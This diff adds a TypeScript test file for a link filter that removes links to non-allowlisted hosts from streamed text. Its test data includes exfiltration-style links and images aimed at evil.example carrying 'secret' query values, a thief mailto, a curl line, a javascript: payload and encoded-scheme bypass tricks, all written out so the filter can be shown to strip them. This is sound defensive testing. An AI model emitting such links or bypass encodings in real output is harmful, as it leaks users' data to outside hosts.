@@ -1,0 +1,104 @@
+import fc from "fast-check";
+import { expect, test } from "vitest";
+import { allowLinks, createLinkFilter, filterLinks } from "./link-filter.ts";
+
+const passage =
+  "Fill in [the form](https://forms.example/return?x=1), write to <mailto:help@shop.example> or see https://shop.example/a(b).";
+const allowed = allowLinks([passage], ["docs.example"]);
+const filtered = (text: string) => filterLinks(text, allowed);
+
+test.each([
+  passage,
+  "See [it](https://docs.example/any?thing#here) and http://docs.example.",
+  "Read [the guide](../guide.md) and [this](#part), in `docs/http`, https, mail and ](that).",
+  "https: is a scheme, http:// is its beginning, and mailto: one for mail",
+  "",
+])("what leads where an answer may lead stays as it is: %j", (text) => {
+  expect(filtered(text)).toBe(text);
+});
+
+test.each([
+  ["[Click](https://evil.example/?q=secret) here", "[Click]() here"],
+  ["[Click](<https://evil.example/?q=a b>) here", "[Click](< b>) here"],
+  ["![](https://evil.example/x.png)", "![]()"],
+  ['![x](//evil.example/x.png "title")', '![x]( "title")'],
+  ["[x](\\\\evil.example/x)", "[x]()"],
+  ["[x](https:evil.example)", "[x]()"],
+  ["[x](https&colon;//evil.example)", "[x]()"],
+  ["[x](&#104;ttps&#x3a;//evil.example)", "[x]()"],
+  ["[x](https\\://evil.example)", "[x]()"],
+  ["[x](javascript:alert(1))", "[x]()"],
+  ["[x](data:text/html,<b>)", "[x](<b>)"],
+  ["[x]( \n https://evil.example )", "[x]( \n  )"],
+  ["go to https://evil.example/a, now", "go to …, now"],
+  ["<https://evil.example>", "<…>"],
+  ["<img src='https://evil.example/?x'>", "<img src='…'>"],
+  ["`curl https://evil.example`", "`curl …`"],
+  ["[s]: https://evil.example/x", "[s]: …"],
+  ["HTTPS://EVIL.EXAMPLE", "…"],
+  ["mailto:thief@evil.example?body=secret", "…"],
+  ["ftp://evil.example/x", "…"],
+  ["https://forms.example/return?x=secret", "…"],
+  ["https://shop.example.evil.example/", "…"],
+  ["https://docs.example@evil.example/", "…"],
+  ["https://evil.example/https://docs.example/", "…"],
+  ["https://sub.docs.example/", "…"],
+  [`https://docs.example/${"a".repeat(3_000)} end`, "… end"],
+])("nothing leads elsewhere: %j", (text, expected) => {
+  expect(filtered(text)).toBe(expected);
+  expect(filtered(expected)).toBe(expected);
+});
+
+test("an address is not shown before it is whole", () => {
+  const filter = createLinkFilter(allowed);
+  let shown = "";
+  for (const character of "See [this](https://evil.example/?secret") {
+    shown += filter.push(character);
+    expect(shown).not.toMatch(/ht|\(|evil/);
+  }
+  expect(shown + filter.end()).toBe("See [this](");
+});
+
+test("how the words are cut makes no difference", () => {
+  const piece = fc.constantFrom(
+    ...[
+      "[x]",
+      "(",
+      ")",
+      "https://",
+      "evil.example",
+      "docs.example",
+      "/a",
+      " ",
+      "<",
+      ">",
+      "ht",
+      "tps://",
+      "mailto:",
+      "\n",
+      "](",
+      "](/a)",
+    ],
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 12 }), fc.integer({ min: 1, max: 7 }), (pieces, cut) => {
+      const text = pieces.join("");
+      const filter = createLinkFilter(allowed);
+      let shown = "";
+      for (let at = 0; at < text.length; at += cut) {
+        shown += filter.push(text.slice(at, at + cut));
+        expect(shown).not.toMatch(/https:\/\/evil/);
+      }
+      shown += filter.end();
+      expect(shown).toBe(filtered(text));
+    }),
+    { numRuns: 1_000 },
+  );
+});
+
+test("a text that is nothing but the beginnings of links is read in time", () => {
+  const began = performance.now();
+  filtered("](".repeat(20_000));
+  filtered("[".repeat(50_000) + "https:/".repeat(20_000));
+  expect(performance.now() - began).toBeLessThan(2_000);
+});
